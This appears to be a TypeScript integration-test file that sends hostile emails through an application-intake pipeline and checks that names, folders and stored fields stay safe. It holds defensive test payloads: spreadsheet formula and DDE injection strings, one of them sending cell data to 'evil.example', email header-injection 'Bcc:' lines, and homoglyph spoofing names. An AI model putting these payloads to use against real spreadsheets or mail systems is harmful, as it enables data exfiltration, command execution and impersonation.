import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EmulatorDriveNode, EmulatorState, InboundEmail } from '../../dev/emulator-client.js';
import { containsContactDetails } from '../../src/domain/untrusted-echo.js';
import { applicationRows, evidenceRoot, mailTo, outcomeOf } from '../support/pipeline.js';
import { startStack } from '../support/stack.js';
import type { Stack } from '../support/stack.js';

/**
 * Hostile mail about identity, folders, stored fields and subjects (issue 8 items 1, 3, 4, 8, 9,
 * 10), through the real pipeline: Azurite, the Microsoft 365 emulator and the local Functions host
 * in its own process, with the fictional sample directory. Each group prints its figures.
 */

const unlimited = { WEQS_MAILBOX_SEND_LIMIT_PER_MINUTE: '100000', WEQS_SEND_RATE_PER_MINUTE: '60000' };
const subjectFor = (name: string): string => `Work Experience Quality Standard – ${name}`;
/** Distinct made-up words, so names never collide with each other or the sample directory. */
const words = ['Amber', 'Birch', 'Cedar', 'Delta', 'Ember', 'Fable', 'Garnet', 'Harbour', 'Indigo', 'Juniper', 'Kestrel', 'Linden', 'Marlow', 'Nettle', 'Oriel', 'Pebble', 'Quill', 'Rowan', 'Sable', 'Thistle', 'Umber', 'Vale', 'Willow', 'Yarrow', 'Zephyr'];
const word = (index: number): string => `${words[index % words.length] ?? 'Spare'}${index >= words.length ? words[Math.floor(index / words.length) % words.length] ?? '' : ''}`;
const formulaStart = /^[=+\-@\t\r]/;
const controlCharacter = /\p{Cc}/u;

interface GroupFigures {
  group: string;
  inputs: number;
  wrongOutcomes: number;
  duplicates: number;
  [figure: string]: string | number;
}

const figures: GroupFigures[] = [];

function report(entry: GroupFigures): void {
  figures.push(entry);
  console.log(`hostile corpus | ${Object.entries(entry).map(([name, value]) => `${name}: ${value}`).join(' | ')}`);
}

/** Evidence folders by who may edit them, beyond the library's staff groups. */
function editorsOf(folder: EmulatorDriveNode): string[] {
  return folder.permissions.flatMap((permission) => (permission.roles.includes('write') && permission.grantedToV2?.user?.email ? [permission.grantedToV2.user.email.toLowerCase()] : []));
}

/** Folders that more than one application points at, or that more than one requester may edit. */
function sharedFolders(state: EmulatorState): string[] {
  const rows = applicationRows(state);
  const byLink = new Map<string, number>();
  for (const row of rows) byLink.set(String(row.FolderLink), (byLink.get(String(row.FolderLink)) ?? 0) + 1);
  const linked = [...byLink.entries()].filter(([, count]) => count > 1).map(([link]) => link);
  const multiEditor = evidenceRoot(state).children.filter((folder) => editorsOf(folder).length > 1).map((folder) => folder.name);
  return [...linked, ...multiEditor];
}

describe('hostile mail: identity, folders, fields and subjects', () => {
  let stack: Stack;
  beforeAll(async () => {
    stack = await startStack({ directory: 'sample', settings: unlimited, retryDelayMs: 500, createGuests: true });
  }, 420_000);
  afterAll(async () => {
    if (process.env.WEQS_TEST_DEBUG) for (const line of stack?.logs.filter((entry) => entry.level >= 40) ?? []) console.log(JSON.stringify(line).slice(0, 1500));
    await stack?.stop();
    console.log(`hostile corpus | total inputs: ${figures.reduce((sum, entry) => sum + entry.inputs, 0)} | wrong outcomes: ${figures.reduce((sum, entry) => sum + entry.wrongOutcomes, 0)} | duplicates: ${figures.reduce((sum, entry) => sum + entry.duplicates, 0)}`);
  });

  // Delivered together, as a backlog would be; the machine is shared, so waits are generous.
  const deliverAll = async (emails: InboundEmail[]) => {
    const delivered = await Promise.all(emails.map((email) => stack.env.control.deliver(email)));
    return Promise.all(delivered.map(async (message) => ({ ...message, record: await outcomeOf(stack, message.internetMessageId, 420_000) })));
  };

  it('item 1: two organisations never share a folder, whatever their names turn into', async () => {
    const long = 'Brackenfold Community Interest Company for Health Education Work Experience Placements and Careers Outreach Across';
    const pairs: [string, string][] = [
      ['AUX', 'Organisation AUX'],
      ['CON', 'Organisation CON'],
      ['nul', 'Organisation NUL'],
      ['COM1', 'Organisation COM1'],
      ['LPT9', 'Organisation lpt9'],
      ['Forms', 'Organisation Forms'],
      ['desktop.ini', 'Organisation desktop.ini'],
      [`${long} the Northern Borough Area`, `${long} the Southern Borough Area`],
      [`${long} Greater Westshire District`, `${long} Greater Eastshire District`],
      [`${long} Zone One (Clinical Skills)`, `${long} Zone One (Clinical Skill)`],
    ];
    const emails = pairs.flatMap(([first, second], index) => [
      { from: { name: 'First Person', address: `first${index}@one-${index}.example.org` }, subject: subjectFor(first) },
      { from: { name: 'Second Person', address: `second${index}@two-${index}.example.org` }, subject: subjectFor(second) },
    ]);
    const results = await deliverAll(emails);
    const state = await stack.env.control.state();
    const wrong = results.filter(({ record }) => record.outcome !== 'provisioned');
    const shared = sharedFolders(state);
    const folderIds = new Map<string, string>();
    for (const folder of evidenceRoot(state).children) folderIds.set(folder.name.toLowerCase(), folder.id);
    report({ group: 'item 1 shared folders', inputs: emails.length, wrongOutcomes: wrong.length, duplicates: shared.length, foldersShared: shared.length });
    expect(wrong.map(({ record }) => `${record.subject}: ${record.outcome} ${record.detail ?? ''}`)).toEqual([]);
    expect(shared).toEqual([]);
    // Each application has its own folder, shared with its own requester only.
    for (const [index] of pairs.entries()) {
      for (const who of [`first${index}@one-${index}.example.org`, `second${index}@two-${index}.example.org`]) {
        const row = applicationRows(state).find((candidate) => candidate.RequesterEmail === who);
        const folder = evidenceRoot(state).children.find((candidate) => String(row?.FolderLink).endsWith(encodeURIComponent(candidate.name)));
        expect(folder && editorsOf(folder)).toEqual([who]);
      }
    }
    // "AUX" changed into "Organisation AUX": the folder carries the reference, so it can collide with nothing.
    const aux = applicationRows(state).find((row) => row.RequesterEmail === 'first0@one-0.example.org');
    expect(evidenceRoot(state).children.map((node) => node.name)).toContain(`Organisation AUX ${String(aux?.Reference)}`);
    expect(evidenceRoot(state).children.map((node) => node.name)).toContain('Organisation AUX');
    expect(mailTo(state, 'second0@two-0.example.org')).toHaveLength(1);
  }, 480_000);

  it('item 4: long and emoji-heavy names and display names are fitted to SharePoint before anything is created', async () => {
    const emails: InboundEmail[] = [];
    for (let index = 0; index < 12; index += 1) {
      emails.push({ from: { name: 'Pat Lee', address: `emoji${index}@emoji.example.org` }, subject: subjectFor(`${'🏥'.repeat(60 + index * 10)} ${word(index)} Emoji Care Collective`) });
    }
    for (let index = 0; index < 12; index += 1) {
      const display = `${'Dr 👩🏽‍⚕️ Jo'.repeat(20 + index * 8)}\r\nBcc: someone@example.org`;
      emails.push({ from: { name: display, address: `longname${index}@longname.example.org` }, subject: subjectFor(`${word(index + 30)} Long Name Community Clinic`) });
    }
    for (let index = 0; index < 6; index += 1) {
      emails.push({ from: { name: 'Sam', address: `astral${index}@astral.example.org` }, subject: subjectFor(`${'𝐍𝐨𝐫𝐭𝐡 '.repeat(20 + index)}${word(index + 60)} Hub`) });
    }
    const results = await deliverAll(emails);
    const state = await stack.env.control.state();
    const rows = applicationRows(state);
    const wrong = results.filter(({ record }) => record.outcome !== 'provisioned');
    const oversized = rows.filter((row) => ['Title', 'RequesterName', 'RequesterEmail', 'OrganisationKey'].some((field) => String(row[field] ?? '').length > 255));
    const missingRows = results.filter(({ record }) => !rows.some((row) => row.Reference === record.reference));
    const replies = emails.map((email) => mailTo(state, email.from.address).length);
    report({ group: 'item 4 long and emoji names', inputs: emails.length, wrongOutcomes: wrong.length + oversized.length + missingRows.length, duplicates: replies.filter((count) => count > 1).length, halfBuilt: missingRows.length });
    expect(wrong.map(({ record }) => `${record.subject}: ${record.outcome} ${record.detail ?? ''}`)).toEqual([]);
    expect(oversized).toEqual([]);
    expect(missingRows).toEqual([]);
    expect(replies.every((count) => count === 1)).toBe(true);
    for (const row of rows) expect(String(row.RequesterName ?? '')).not.toMatch(controlCharacter);
  }, 480_000);

  it('item 8: nothing stored in the Applications list starts a spreadsheet formula or holds a control character', async () => {
    const names = [
      '=HYPERLINK("https://evil.example/login","Open application")',
      "+cmd|' /C calc'!A0 Care",
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '=1+1 Surgery',
      '+44 Health Partnership',
      '@Home Care Services',
      '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
      '=DDE("cmd";"/C calc";"!A0")',
    ];
    const displays = ['=HYPERLINK("https://evil.example","Jo")', '+cmd|calc', '-2+3 Jo', '@Jo Bloggs', '\t=1+1', '\r\n=1+1', 'Jo\rBloggs\nBcc: x@example.org', 'Plain Name'];
    const emails: InboundEmail[] = [];
    for (const [index, name] of names.entries()) emails.push({ from: { name: displays[index] ?? 'Jo', address: `formula${index}@formula.example.org` }, subject: subjectFor(`${name} ${word(index + 80)}`) });
    for (const [index, display] of displays.entries()) emails.push({ from: { name: display, address: `display${index}@formula.example.org` }, subject: subjectFor(`${word(index + 100)} Formula Display Clinic`) });
    const results = await deliverAll(emails);
    const state = await stack.env.control.state();
    const ours = applicationRows(state).filter((row) => String(row.RequesterEmail).endsWith('@formula.example.org'));
    const fields = ['Title', 'RequesterName', 'RequesterEmail', 'OrganisationKey', 'OdsCode', 'TargetCycle', 'SourceMessageId'];
    const formulas = ours.flatMap((row) => fields.filter((field) => formulaStart.test(String(row[field] ?? ''))).map((field) => `${field}: ${String(row[field])}`));
    const controls = ours.flatMap((row) => fields.filter((field) => controlCharacter.test(String(row[field] ?? ''))).map((field) => `${field}: ${JSON.stringify(row[field])}`));
    // A "name" carrying a link or a phone number is not set up at all (the sender gets the subject
    // format); every other name is, and stored so that it starts no formula.
    const expected = (subject: string): string => (containsContactDetails(subject) ? 'invalid-request' : 'provisioned');
    const wrong = results.filter(({ record }, index) => record.outcome !== expected(emails[index]?.subject ?? ''));
    const provisioned = emails.filter((email) => expected(email.subject) === 'provisioned');
    report({ group: 'item 8 spreadsheet formulas', inputs: emails.length, wrongOutcomes: wrong.length, duplicates: 0, formulasStored: formulas.length, controlCharactersStored: controls.length });
    expect(wrong.map(({ record }) => `${record.subject}: ${record.outcome}`)).toEqual([]);
    expect(ours).toHaveLength(provisioned.length);
    expect(formulas).toEqual([]);
    expect(controls).toEqual([]);
    expect(ours.find((row) => row.RequesterEmail === 'formula3@formula.example.org')?.Title).toMatch(/^'=1\+1 Surgery/);
  }, 480_000);

  it('item 4: a request that cannot be stored, or a saga that cannot finish, ends where staff see it and blocks nobody', async () => {
    const longAddress = `${'a'.repeat(250)}@overlong.example.org`;
    const [overlong] = await deliverAll([{ from: { address: longAddress }, subject: subjectFor('Overlong Address Dental Studio') }]);
    expect(overlong?.record.outcome).toBe('failed');
    // The list refuses every row for a while: the saga gives up after its attempts...
    await stack.env.control.addFaults({ method: 'POST', path: '/v1.0/sites/*/lists/*/items', status: 500 });
    const [stuck] = await deliverAll([{ from: { name: 'First Asker', address: 'first@stuck.example.org' }, subject: subjectFor('Stuckmoor Wellbeing Centre') }]);
    await stack.env.control.clearFaults();
    expect(stuck?.record.outcome).toBe('failed');
    // ...staff are told, and the organisation is not blocked: the next request opens an application.
    const [next] = await deliverAll([{ from: { name: 'Second Asker', address: 'second@stuck.example.org' }, subject: subjectFor('Stuckmoor Wellbeing Centre') }]);
    const state = await stack.env.control.state();
    report({ group: 'item 4 unfinishable sagas', inputs: 3, wrongOutcomes: [overlong?.record.outcome !== 'failed', stuck?.record.outcome !== 'failed', next?.record.outcome !== 'provisioned'].filter(Boolean).length, duplicates: 0 });
    expect(next?.record.outcome).toBe('provisioned');
    expect(state.teams.filter((post) => JSON.stringify(post.card).includes('could not be processed')).length).toBeGreaterThanOrEqual(2);
    expect(mailTo(state, longAddress)).toHaveLength(0);
  }, 480_000);

  it('item 3: look-alike letters never open a second application for an organisation', async () => {
    const genuine = 'Northshire Hospitals NHS Foundation Trust';
    const [first] = await deliverAll([{ from: { name: 'Real Applicant', address: 'real@northshire.nhs.example' }, subject: subjectFor(genuine) }]);
    expect(first?.record.outcome).toBe('provisioned');
    // Cyrillic and Greek letters that look like Latin ones, one or several at a time.
    const swaps: [string, string][] = [['a', '\u0430'], ['e', '\u0435'], ['o', '\u043E'], ['p', '\u0440'], ['c', '\u0441'], ['i', '\u0456'], ['s', '\u0455'], ['H', '\u041D'], ['N', '\u039D'], ['T', '\u0422'], ['F', '\u03DC'], ['h', '\u04BB'], ['r', '\u0433'], ['n', '\u0578'], ['l', '\u04CF'], ['u', '\u057D'], ['d', '\u0501'], ['t', '\u03C4']];
    const variants = new Set<string>();
    for (const [latin, fake] of swaps) {
      for (const name of [genuine, "St Agatha's Children's Hospital NHS Trust", 'East Westshire NHS Foundation Trust']) {
        const at = name.indexOf(latin);
        if (at >= 0) variants.add(`${name.slice(0, at)}${fake}${name.slice(at + 1)}`);
      }
    }
    variants.add(genuine.replace(/o/g, '\u043E').replace(/a/g, '\u0430'));
    variants.add('\u039D\u043Erthshire Hospitals NHS Foundation Trust');
    variants.add('Northshire Hospitals NHS Foundation Trust'.replace('Hospitals', 'Hosp\u0131tals'));
    variants.add('\u0405\u0422 Agatha\u2019s Children\u2019s Hospital NHS Trust');
    const emails = [...variants].map((name, index) => ({ from: { name: 'Look Alike', address: `lookalike${index}@lookalike.example.org` }, subject: subjectFor(name) }));
    // Real names in one other script are not look-alikes: they open applications as before.
    const honest = ['\u0421\u0435\u0432\u0435\u0440\u043D\u0430\u044F \u0411\u043E\u043B\u044C\u043D\u0438\u0446\u0430', '\u039D\u03BF\u03C3\u03BF\u03BA\u03BF\u03BC\u03B5\u03AF\u03BF \u0391\u03B8\u03B7\u03BD\u03CE\u03BD', 'Ysbyty Cymuned Dyffryn \u0174y'];
    const honestEmails = honest.map((name, index) => ({ from: { name: 'Honest', address: `honest${index}@honest.example.org` }, subject: subjectFor(name) }));
    const results = await deliverAll([...emails, ...honestEmails]);
    const state = await stack.env.control.state();
    const lookAlikes = results.slice(0, emails.length);
    const wrong = [...lookAlikes.filter(({ record }) => record.outcome !== 'needs-identifying'), ...results.slice(emails.length).filter(({ record }) => record.outcome !== 'provisioned')];
    const secondApplications = applicationRows(state).filter((row) => String(row.RequesterEmail).endsWith('@lookalike.example.org'));
    const cards = state.teams.filter((post) => JSON.stringify(post.card).includes('another alphabet'));
    report({ group: 'item 3 look-alike names', inputs: emails.length + honestEmails.length, wrongOutcomes: wrong.length, duplicates: secondApplications.length, staffCards: cards.length });
    expect(wrong.map(({ record }) => `${record.subject}: ${record.outcome} ${record.detail ?? ''}`)).toEqual([]);
    expect(secondApplications).toEqual([]);
    expect(cards.length).toBe(emails.length);
  }, 480_000);

  it('item 10: messy but honest subjects open the application under the name meant', async () => {
    const b64 = (text: string): string => `=?UTF-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`;
    const shapes: ((name: string) => string)[] = [
      (name) => `AW: ${subjectFor(name)}`,
      (name) => `WG: ${subjectFor(name)}`,
      (name) => `SV: ${subjectFor(name)}`,
      (name) => `*EXTERNAL* ${subjectFor(name)}`,
      (name) => `Work-Experience Quality Standard – ${name}`,
      (name) => `"${subjectFor(name)}"`,
      (name) => `Work Experience Quality Standard – “${name}”`,
      (name) => b64(subjectFor(name)),
      (name) => `${subjectFor(name)}. We would like to apply, please`,
      (name) => `${subjectFor(name)} - please send the form`,
      (name) => `\u001b[31m${subjectFor(name)}\u001b[0m`,
      (name) => `Work Experience Quality Standard – (${name})`,
      (name) => `Work Experience Quality Standard – {${name}}`,
      (name) => `RE: *EXTERNAL* AW: "${subjectFor(name)}"`,
    ];
    const cases = shapes.flatMap((shape, index) => [0, 1].map((round) => ({ name: `${word(index * 2 + round + 150)} Messy Subject Practice`, subject: shape(`${word(index * 2 + round + 150)} Messy Subject Practice`) })));
    const results = await deliverAll(cases.map(({ subject }, index) => ({ from: { name: 'Messy', address: `messy${index}@messy.example.org` }, subject })));
    const state = await stack.env.control.state();
    const rows = applicationRows(state);
    const wrong = results.filter(({ record }, index) => record.outcome !== 'provisioned' || !rows.some((row) => row.Reference === record.reference && row.Title === cases[index]?.name));
    report({ group: 'item 10 messy subjects', inputs: cases.length, wrongOutcomes: wrong.length, duplicates: 0 });
    expect(wrong.map(({ record }) => `${record.subject}: ${record.outcome} ${record.detail ?? ''}`)).toEqual([]);
  }, 480_000);
});
